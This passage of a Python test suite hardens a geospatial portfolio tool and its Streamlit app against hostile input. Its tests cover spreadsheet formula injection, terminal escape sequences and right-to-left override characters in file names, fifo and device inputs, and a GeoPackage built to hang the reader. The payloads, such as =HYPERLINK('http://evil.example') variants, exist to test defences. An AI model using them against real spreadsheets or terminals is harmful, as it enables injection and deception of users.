    frame.to_file(tmp_path / "zone.geojson", driver="GeoJSON")
    data = (tmp_path / "zone.geojson").read_bytes()
    full = read_upload("zone.geojson", data)
    view = upload.read_upload_for_view("zone.geojson", data)
    assert list(view.columns) == ["geometry"] and "name" in full.columns
    assert view.attrs["upload_format"] == "GeoJSON"
    assert (
        shapely.get_num_coordinates(view.geometry.iloc[0])
        < shapely.get_num_coordinates(full.geometry.iloc[0]) / 4
    )  # a 1 m tolerance on a 1.1 km circle of 629 points
    assert view.geometry.iloc[0].hausdorff_distance(full.geometry.iloc[0]) <= upload.VIEW_TOLERANCE


def test_one_upload_limit_for_the_library_and_the_uploader() -> None:
    """``server.maxUploadSize`` (MB of 10^6 bytes, as Streamlit's uploader counts) is the library's
    limit, and the app passes the same number to its uploader."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] * 1_000_000 == MAX_UPLOAD_BYTES == 20_000_000
    assert "max_upload_size=upload.MAX_UPLOAD_BYTES // 1_000_000" in (ROOT / "app.py").read_text("utf-8")


# --- formula cells (issue 11): one rule, shared by validation and the CSV export --------------------

FORMULAS = [
    "=1+1",
    " =1+1",
    '\u00a0=HYPERLINK("http://evil.example")',
    "\u2003+1+1",
    "\u200b@SUM(A1)",
    '＝HYPERLINK("http://evil.example")',
    "＋84 292 3820",
    "－1+1",
    "＠SUM(A1:A9)",
    "\tTab",
    "\rCR",
    "-5 km",
    'Xem thêm; =HYPERLINK("http://evil.example")',
    "Ninh Kiều,=1+1",
    "a ;\u00a0＝1",
    "a;=1;=2",
]
NOT_FORMULAS = ["-5", "+84", "1,5", " -5", "1 = 1", "a; b = c", "Đường tỉnh 923", "x=y", "a; +1", "e-mail"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_rule(value: str) -> None:
    from portfolio import _formula

    assert _formula.is_formula(value)
    assert _formula.SUSPECT_RE.search("plain\n" + value + "\nplain")  # the fast path looks at it
    joined = "\nplain\n" + value + "\nplain"  # as the row checks scan a column: a line break in front
    assert rows_module._FORMULA_LINE_RE.search(joined) or rows_module._FORMULA_SPLIT_RE.search(joined)
    safe = _formula.neutralise(value)
    assert not _formula.is_formula(safe) and safe.replace("'", "") == value.replace("'", "")
    for piece in re.split("[;,]", safe):  # as a spreadsheet splitting at ';' or ',' sees it
        assert not piece.lstrip().lstrip("\u200b").startswith(tuple(_formula.STARTS)), (value, piece)


@pytest.mark.parametrize("value", NOT_FORMULAS)
def test_not_a_formula(value: str) -> None:
    from portfolio import _formula

    assert not _formula.is_formula(value)
    assert _formula.neutralise(value) == value


def test_csv_export_neutralises_what_validation_refuses(make_register: MakeRegister, tmp_path: Path) -> None:
    """Every value validation calls a formula is exported neutralised; a plain number is not touched."""
    from portfolio import export

    frame = load(*make_register())
    values = [*FORMULAS, *NOT_FORMULAS]
    frame = frame.iloc[[i % len(frame) for i in range(len(values))]].reset_index(drop=True)
    frame["id"] = [f"p-{i}" for i in range(len(values))]
    frame["notes"] = values
    path = export.export(frame, tmp_path / "out.csv", "csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        got = {row["id"]: row["notes"] for row in csv.DictReader(fh)}
    for index, value in enumerate(values):
        cell = got[f"p-{index}"]
        assert cell == (export.neutralise(value) if value in FORMULAS else value)
        assert (cell != value) == (value in FORMULAS), (value, cell)
    for value in FORMULAS:  # and validation refuses each one
        assert rows_module.is_formula(value)


# --- signals in the middle of an export (issue 11): real processes, a large synthetic register -----


def _temporaries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".portfolio-tmp-"))


@pytest.fixture(scope="module")
def large_register(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    sys.path.insert(0, str(ROOT / "benchmarks"))
    try:
        import synth
    finally:
        sys.path.remove(str(ROOT / "benchmarks"))
    made = synth.generate(6000, tmp_path_factory.mktemp("large"))
    return made.register, made.geodata


def _export_until_writing(register: Path, geodata: Path, fmt: str, output: Path) -> subprocess.Popen[str]:
    """Start ``portfolio export`` and return once its temporary file or folder is beside ``output``."""
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "portfolio",
            "export",
            "--register",
            str(register),
            "--geodata",
            str(geodata),
            "-f",
            fmt,
            "-o",
            str(output),
        ],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 300
    while not _temporaries(output.parent):
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            pytest.fail(f"the export ended before writing anything: {proc.communicate()}")
        time.sleep(0.005)
    return proc


@pytest.mark.parametrize(
    ("fmt", "name", "after"),
    [
        ("shp", "out.zip", 0),
        ("shp", "out.zip", 1.0),
        ("geojson", "out.geojson", 0.05),
        ("csv", "out.csv", 0),
    ],
    ids=["shp-at-once", "shp-later", "geojson", "csv"],
)
def test_sigterm_during_an_export_cleans_up_like_ctrl_c(
    fmt: str, name: str, after: float, large_register: tuple[Path, Path], tmp_path: Path
) -> None:
    """SIGTERM as soon as the temporary file exists, or ``after`` seconds into the write."""
    output = tmp_path / name
    output.write_bytes(b"the previous export")
    proc = _export_until_writing(*large_register, fmt, output)
    time.sleep(after)
    assert proc.poll() is None, "the export ended before the signal: make the register larger"
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert "interrupted by SIGTERM" in err and "Traceback" not in err
    assert _temporaries(tmp_path) == []  # no hidden file, no .portfolio-tmp-PID-shp.* folder
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]
    assert output.read_bytes() == b"the previous export"


@pytest.mark.parametrize(("fmt", "name"), [("shp", "out.zip"), ("geojson", "out.geojson")])
def test_what_a_sigkill_leaves_is_removed_by_the_next_export(
    fmt: str, name: str, large_register: tuple[Path, Path], tmp_path: Path
) -> None:
    output = tmp_path / name
    proc = _export_until_writing(*large_register, fmt, output)
    proc.kill()
    proc.communicate(timeout=60)
    left = _temporaries(tmp_path)
    assert left and all(n.startswith(f".portfolio-tmp-{proc.pid}-") for n in left), left
    # The next run (a quick one: the search keeps no project) removes them and says so.
    register, geodata = large_register
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "portfolio",
            "export",
            "--register",
            str(register),
            "--geodata",
            str(geodata),
            "-f",
            fmt,
            "-o",
            str(output),
            "--search",
            "no such project at all",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    for entry in left:
        assert f"removed {tmp_path / entry} (" in result.stderr and f"process {proc.pid}" in result.stderr
    assert _temporaries(tmp_path) == [] and output.exists()


def test_a_live_process_s_temporary_file_is_not_removed(tmp_path: Path) -> None:
    """Only the files of a process that is gone are removed: a running export's stay."""
    from portfolio import _files

    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        alive = tmp_path / f".portfolio-tmp-{sleeper.pid}-out.csv.abc.csv"
        alive.write_text("in progress")
        mine = tmp_path / f"{_files.temp_prefix('x')}abc"
        mine.mkdir()
        assert _files.remove_stale(tmp_path) == [] and alive.exists() and mine.exists()
    finally:
        sleeper.kill()
        sleeper.wait()
    assert _files.remove_stale(tmp_path) == [alive] and not alive.exists() and mine.exists()


# --- inputs that are not regular files, and control characters in names (issue 11) ----------------


def _fifo(path: Path) -> None:
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def _socket(path: Path) -> socket.socket:
    path.unlink(missing_ok=True)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(path))
    return sock


@pytest.mark.parametrize(
    ("label", "which", "kind"),
    [
        ("register-fifo", "register", "a named pipe (fifo)"),
        ("geodata-fifo", "projects.geojson", "a named pipe (fifo)"),
        ("boundary-fifo", "city_boundary.geojson", "a named pipe (fifo)"),
        ("register-socket", "register", "a socket"),
        ("register-device", "/dev/zero", "a character device"),
    ],
    ids=lambda v: v if isinstance(v, str) and "-" in v else "",
)
def test_inputs_that_are_not_regular_files_are_refused(
    label: str, which: str, kind: str, make_register: MakeRegister
) -> None:
    """Before issue 11 a fifo hung the CLI forever (the open waited for a writer); /dev/zero was read."""
    reg, geo = make_register()
    sockets = []
    named = reg if which in ("register", "/dev/zero") else geo / which
    if which == "/dev/zero":
        reg = named = Path("/dev/zero")
    elif "socket" in label:
        sockets.append(_socket(named))
    else:
        _fifo(named)
    try:
        problems = validate(reg, geo)
        assert any(
            p.file == str(named)
            and p.rule == "unreadable"
            and p.message.endswith(f"path is {kind}, not a regular file")
            for p in problems
        ), problems
        with pytest.raises(RegisterError):
            load(reg, geo)
        result = subprocess.run(
            [sys.executable, "-m", "portfolio", "validate", "--register", str(reg), "--geodata", str(geo)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert result.returncode == 1 and f"{named}: " in result.stderr and kind in result.stderr
        assert "Traceback" not in result.stderr
    finally:
        for sock in sockets:
            sock.close()


def test_a_fifo_swapped_in_after_the_check_does_not_hang(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The race between the stat and the open: the open does not wait (O_NONBLOCK) and the file it
    opened is checked again (fstat)."""
    import threading

    from portfolio import _files
    from portfolio._errors import InputError

    regular = tmp_path / "regular.csv"
    regular.write_text("id\n")
    fifo = tmp_path / "swapped.csv"
    _fifo(fifo)
    real_stat = Path.stat
    monkeypatch.setattr(
        Path,
        "stat",  # the check sees a regular file; the open finds the fifo
        lambda self, *a, **k: real_stat(regular if self == fifo else self, *a, **k),
    )
    outcome: list[BaseException] = []

    def read() -> None:
        try:
            _files.read_text(fifo, kind="register")
        except BaseException as exc:  # noqa: BLE001 - what the reader raised is the result
            outcome.append(exc)

    thread = threading.Thread(target=read, daemon=True)
    thread.start()
    thread.join(30)
    assert not thread.is_alive(), "the reader hangs on a fifo"
    (error,) = outcome
    assert isinstance(error, InputError) and "a named pipe (fifo), not a regular file" in str(error)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("out\n.geojson", "out\\n.geojson"),
        ("\x1b]0;pwned\x07.geojson", "\\x1b]0;pwned\\x07.geojson"),
        ("\x1b[2Jclear.geojson", "\\x1b[2Jclear.geojson"),
        ("tab\t.geojson", "tab\\t.geojson"),
        ("rtl\u202egeojson.exe.geojson", "rtl\\u202egeojson.exe.geojson"),
    ],
)
def test_an_output_name_with_a_control_character_is_refused(
    name: str, shown: str, make_register: MakeRegister, tmp_path: Path
) -> None:
    reg, geo = make_register()
    out = tmp_path / "out"
    out.mkdir()
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "portfolio",
            "export",
            "--register",
            str(reg),
            "--geodata",
            str(geo),
            "-f",
            "geojson",
            "-o",
            str(out / name),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2, result.stderr
    assert f"{out}/{shown}: the name holds the control character" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "\u202e" not in result.stderr
    assert list(out.iterdir()) == []


def test_no_message_prints_raw_terminal_codes(make_register: MakeRegister, tmp_path: Path) -> None:
    """A path holding escape sequences is shown with them written visibly, in every message."""
    reg, geo = make_register()
    evil = tmp_path / "\x1b[31mred\x1b]0;title\x07\r.csv"
    for args in (
        ["validate", "--register", str(evil), "--geodata", str(geo)],
        ["list", "--register", str(evil), "--geodata", str(geo)],
        ["list", "--register", str(reg), "--geodata", str(geo), "--status", "\x1b[2J"],
    ):
        result = subprocess.run(
            [sys.executable, "-m", "portfolio", *args], cwd=ROOT, capture_output=True, text=True, timeout=120
        )
        assert result.returncode in (1, 2), result.stderr
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", result.stderr + result.stdout), result.stderr
        assert "\\x1b[" in result.stderr


# --- the app's own address parameters and over-long addresses (issue 11): no silent drop ------------

from streamlit.testing.v1 import AppTest  # noqa: E402 - the app's cases only

from tests.app_fixtures import counter  # noqa: E402
from tests.test_app import app_env, param  # noqa: E402, F401 - fixture and helpers of the app tests


def _app(params: dict[str, str | list[str]]) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    for key, value in params.items():
        at.query_params[key] = value
    at.run()
    assert not at.exception, at.exception
    return at


def _unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown)


@pytest.mark.parametrize(
    ("params", "vi", "en"),
    [
        (
            {"lang": "fr"},
            "ngôn ngữ (lang): không có giá trị 'fr'",
            "unknown lang 'fr'; allowed values: vi, en",
        ),
        (
            {"view": "map"},
            "chế độ xem (view): không có giá trị 'map'",
            "unknown view 'map'; allowed values: table, timeline, investors, export",
        ),
        (
            {"sel": "no-such-id"},
            "dự án được chọn (sel): không có dự án nào mã 'no-such-id'",
            "sel: no project has the id 'no-such-id'",
        ),
        (
            {"links": "yes"},
            "đường nối (links): không có giá trị 'yes'",
            "unknown links 'yes'; allowed values: 0, 1",
        ),
        (
            {"view": ["timeline", "export"]},
            "chế độ xem (view): có 2 lần",
            "view: given 2 times; give it once",
        ),
    ],
    ids=["lang", "view", "sel", "links", "view-twice"],
)
@pytest.mark.usefixtures("app_env")
def test_a_wrong_page_parameter_is_dropped_with_a_warning(params: dict[str, Any], vi: str, en: str) -> None:
    """README: "A wrong value in a hand-written address is dropped with a warning naming it, in the
    page language; the valid ones are kept." Before issue 11 these four were dropped silently."""
    # A wrong lang leaves the page in the default language, Vietnamese.
    for lang, expected in (("vi", vi),) if "lang" in params else (("vi", vi), ("en", en)):
        at = _app({"lang": lang, **params, "status": "operating"})
        warnings = [_unescape(w.value) for w in at.warning]
        assert any(expected in w for w in warnings), warnings
        assert param(at, "status") == ["operating"]  # the valid filter is kept
        assert counter(at).startswith("3 ")


@pytest.mark.usefixtures("app_env")
def test_the_dropped_values_fall_back_to_the_defaults() -> None:
    at = _app({"lang": "en", "view": "nope", "sel": "ghost", "links": "2"})
    assert at.session_state["view"] == "table" and at.session_state["page"].selected is None
    assert at.session_state["page"].draw_links is False
    (warning,) = at.warning
    assert all(word in _unescape(warning.value) for word in ("'nope'", "'ghost'", "'2'"))
    assert not _app({"lang": "en", "view": "timeline", "sel": "evil", "links": "1"}).warning


@pytest.mark.usefixtures("app_env")
def test_an_address_streamlit_ignores_whole_is_reported() -> None:
    """Over 1,000 parameters Streamlit gives the script no parameter at all (it only logs it): the page
    asks the browser, which still has the address, and the browser draws the warning."""
    from streamlit.runtime.state import query_params as streamlit_params

    from portfolio import address, i18n

    assert address.MAX_FIELDS == streamlit_params.CLIENT_STATE_QUERY_STRING_MAX_FIELDS
    assert address.MAX_LENGTH == streamlit_params.CLIENT_STATE_QUERY_STRING_MAX_LENGTH
    query = "&".join(["status=operating"] * 1001)
    assert address.dropped_address(query) == 1001 and address.dropped_address("status=operating") is None
    assert address.dropped_address("search=" + "x" * address.MAX_LENGTH) == 1
    at = _app({"status": ["operating"] * 1001})
    assert counter(at).startswith("8 ")  # Streamlit dropped every filter
    # (the other frame is the "copy link" button's)
    (frame,) = [f for f in at.get("iframe") if "top.location.search" in f.proto.srcdoc]
    script = frame.proto.srcdoc
    for lang in i18n.LANGS:
        assert json.dumps(i18n.t("address_dropped", lang)) in script
    assert '"fields": 1000' in script and "top.location.search" in script and "textContent" in script
    frames = _app({"status": "operating"}).get("iframe")
    assert not [
        f for f in frames if "top.location.search" in f.proto.srcdoc
    ]  # an address that arrived: no check


def test_the_browser_shows_the_warning_for_an_address_of_1001_parameters(tmp_path: Path) -> None:
    """The real thing: Streamlit, Chromium, an address of 1,001 parameters."""
    from tests import test_browser as tb

    tb._require_browser()
    from playwright.sync_api import sync_playwright

    with tb.run_app(tmp_path) as server, sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=tb.CHROMIUM, args=["--no-sandbox"])
        try:
            page = chromium.new_page()
            page.goto(server.url + "/?" + "&".join(f"p{i}=x" for i in range(1000)) + "&lang=en")
            alert = page.locator("#pf-address-dropped")
            alert.wait_for(timeout=tb.WAIT_MS)
            assert alert.inner_text().startswith("The page address has 1,001 parameters or is too long")
            page.goto(server.url + "/?status=operating&lang=en")
            page.get_by_text("3 of 8 projects").wait_for(timeout=tb.WAIT_MS)
            assert page.locator("#pf-address-dropped").count() == 0
        finally:
            chromium.close()


@pytest.mark.usefixtures("app_env")
def test_the_app_refuses_a_hostile_geopackage_in_the_page_language(tmp_path: Path) -> None:
    """The app's upload layer: the view over a recursive CTE is refused fast, with the Vietnamese
    message first and the technical detail after; the page keeps working."""
    from tests.test_app import uploader

    data = hostile.gpkg_with_view(tmp_path / "forever.gpkg", hostile.FOREVER_VIEW).read_bytes()
    at = _app({})
    start = time.monotonic()
    uploader(at).set_value(("forever.gpkg", data, "application/geopackage+sqlite3")).run()
    assert time.monotonic() - start < 30 and not at.exception
    (error,) = at.error
    assert _unescape(error.value).startswith(
        "Không đọc được tệp: forever.gpkg: GeoPackage chứa view, trigger"
    )
    assert any("holds a view ('evil')" in _unescape(c.value) for c in at.caption)
    assert counter(at).startswith("8 ")
    assert at.session_state["page"].upload[1] is None


@pytest.mark.parametrize(
    ("before", "value"),
    [("", "=1+1"), ("Xem thêm;", "=1+1"), ("a,", "＝1"), ("", '\u00a0=HYPERLINK("http://evil.example")')],
)
def test_a_formula_cell_after_an_empty_or_separator_ending_cell_is_found(before: str, value: str) -> None:
    """The column is searched joined by line breaks: a match must not start in the cell above (whose
    whitespace or final ';' would swallow the line break) and so hide the formula below it."""
    rows = [base_row(id="dt-923", notes=before), base_row(id="dt-917", notes=value)]
    found = rows_module.check_rows("projects.csv", [1, 2], rows)
    assert [p.rule for p in found[0][1]] == []
    assert [(p.where, p.field, p.rule) for p in found[1][1]] == [("row 2 (id dt-917)", "notes", "formula")]
